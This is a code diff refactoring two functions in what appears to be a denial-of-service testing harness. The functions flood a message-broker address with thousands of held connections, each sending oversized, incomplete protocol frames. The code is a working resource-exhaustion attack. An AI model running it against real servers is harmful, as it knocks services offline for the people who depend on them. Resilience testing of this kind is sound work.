@@ -139,16 +139,7 @@ def field_sets_of_a_stranger(address: str, stop: Stop) -> None:
 def unfinished_frames(address: str, stop: Stop) -> None:
     header = b'{"code":310,"extFields":{}}'
     unfinished = struct.pack(">II", 4 * MEBIBYTE, len(header)) + header + bytes(3 * MEBIBYTE)
-    held: list[socket.socket] = []
-    while not stop.is_set():
-        with contextlib.suppress(OSError):
-            stream = connect(address)
-            held.append(stream)
-            stream.sendall(unfinished)
-        if len(held) > 300:
-            held.pop(0).close()
-    for stream in held:
-        stream.close()
+    _hold_unfinished(address, stop, unfinished, connections=300)
 
 
 @_attack
@@ -156,13 +147,17 @@ def small_unfinished_frames_of_many(address: str, stop: Stop) -> None:
     _raise_descriptor_limit()
     header = b'{"code":105,"extFields":{}}'
     unfinished = struct.pack(">II", 60 * 1024, len(header)) + header + bytes(59 * 1024)
+    _hold_unfinished(address, stop, unfinished, connections=8_000)
+
+
+def _hold_unfinished(address: str, stop: Stop, unfinished: bytes, *, connections: int) -> None:
     held: list[socket.socket] = []
     while not stop.is_set():
         with contextlib.suppress(OSError):
             stream = connect(address)
             held.append(stream)
             stream.sendall(unfinished)
-        if len(held) > 8_000:
+        if len(held) > connections:
             held.pop(0).close()
     for stream in held:
         stream.close()
